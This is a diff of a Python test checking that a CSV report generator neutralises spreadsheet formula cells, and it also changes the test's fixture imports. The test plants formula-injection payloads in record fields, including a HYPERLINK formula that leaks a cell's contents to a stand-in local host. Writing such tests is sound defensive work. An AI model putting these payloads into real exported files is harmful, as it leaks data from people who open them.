@@ -130,11 +130,12 @@ def test_csv_report_neutralises_formula_cells(tmp_path):
     import csv
     import io
 
-    from test_warehouse_support import NEWS_2023_URL, Fact, canonical_docs, run_once
+    from review_docs import STALE_URL, review_docs
+    from test_warehouse_support import Fact, run_once
     from newsfacts.warehouse.report import render_report
 
-    docs = canonical_docs()
-    news = next(d for d in docs if d.url == NEWS_2023_URL)
+    docs = review_docs()              # the documents the report tests use: one contradiction
+    news = next(d for d in docs if d.url == STALE_URL)
     news.publisher = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
     news.facts = [Fact(**{**f.__dict__, "sentence": f"@SUM(1+1) {f.sentence}"}) for f in news.facts]
     run_once(tmp_path / "w.duckdb", docs)
